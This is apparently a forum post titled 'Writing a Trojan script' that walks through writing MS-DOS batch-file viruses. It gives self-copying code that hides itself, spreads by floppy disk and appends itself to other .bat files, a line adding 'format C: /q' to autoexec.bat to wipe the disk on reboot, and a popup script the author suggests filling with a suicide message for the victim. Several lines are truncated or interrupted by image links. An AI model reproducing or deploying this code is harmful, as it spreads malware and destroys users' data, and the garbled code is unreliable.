By registering with us, you'll be able to discuss, share and private message with other members of our community.

SignUp Now!

Writing a Trojan script


Staff member
Nov 26, 2020
Let's create it in a regular text editor built into Windows. Such a virus will be called a BAT virus.

As I write the source code, I will explain what I'm talking about in curly brackets.

@Echo off {disallow displaying executable commands on the screen}

copy %0 c:virus.bat >nul {copy the file; prohibit displaying the command itself and the result of its action}

echo c:virus.bat»c:autoexec.bat {adding text to an existing file}

That's all!

@Echo off

copy %0 c:echo c:

copy %0 a:run.

Thus, I added one line to the previous source code and the virus acquired a new ability: it can now infect other computers via afloppy disk.

@Echo off

copy %0 c:

attrib +h c:

echo c:

copy %0 a:run.bat >nul

Here, our source code is starting to take on the shape of a virus!

@Echo off

if exist c:virus.bat goto ski {checking if the file exists, …}

copy %0 c:virus.bat >nul

attrib +h c:virus.bat >nulecho c:virus.bat»c:autoexec.bat

:ski {...if it exists, the program jumps to the :ski label}

copy %0 a:run.bat >nul

Added another "if exist" command. Now the virus will already check if this file exists, and if it does, then unnecessary commands will no longer beexecuted. It just copies itself to a floppy disk and that's it.

Now we are upgrading our virus to the end.

@echo off%[Meteor]% {displaying the text "Meteor»}

if ' %1=='In_ goto Meteo {if the %1 variable is equal to In, then go to the placemark «:Meteo»}

if exist c:Meteor.bat goto Meteor checking whether the Meteor file exists.bat, if yes, then go to the placemark «:Mete»}

if not exist %0 goto Met {if the file doesn't exist, then go to the "Met" label»}

find "Meteor"c:Meteor.bat {check if the meteor file is on yandex. disk. if not, copy it there}

attrib +h c:Meteor.bat {making the file hidden}

:Mete {placemark}

for %%t in (*.bat) do call c:Meteor In_ %%t {execute one command (call - allows you to call one batch file from another) for several parameters t} {i.e., the virus finds a file with the extension .bat, and infects it with the type command, appending itself to the found one .to the bat file}

goto Met {go to placemark}

:Meteo {placemark}

find "Meteor" nul {set the file value to 2 and prohibit displaying the command and its result on the screen}if not errorlevel 1 goto Met {if there was no error (with code 1) in executing the previous command, then go to the placemark}

type c:Meteor.bat " %2 {append "self" to the found one .to the bat file}

:Met {placemark}

This can already be called a more or less full-fledged virus!

In order for a virus to become a virus, it must be saved with the BAT extension. Click "Save as", write for example virus.bat, and where you save it, the MS-DOS batch file will appear.

You can create other viruses based on this source code. Experiment, upgrade, and try to write your own virus. I will say by the way that using this source code, I made three more modifications from it. And this is not the limit! The possibilities are unlimited, it all depends on your imagination.Here's another simple but interesting example:

@Echo off

Echo format C: /q » c:Autoexec.bat

Everything! Nothing special, right? This virus adds to autoexec.bat string format C: / q and when the computer is rebooted, the disk is quickly formatted :)

Andhere's another thing:

echo var WSHShell = WScript.CreateObject("WScript.Shell"); > %temp%mes.js

echo WSHShell.Popup ("WRITE ANYTHING HERE"); "%temp%mes.js

start %temp%mes.js

deltree /y %temp%mes.js

Add this script to your virus, instead of "WRITE ANYTHING HERE", write your own text (for example, a suicide speech for the user), and when the virus starts, a window will pop upwith your message! Good luck.
Top Bottom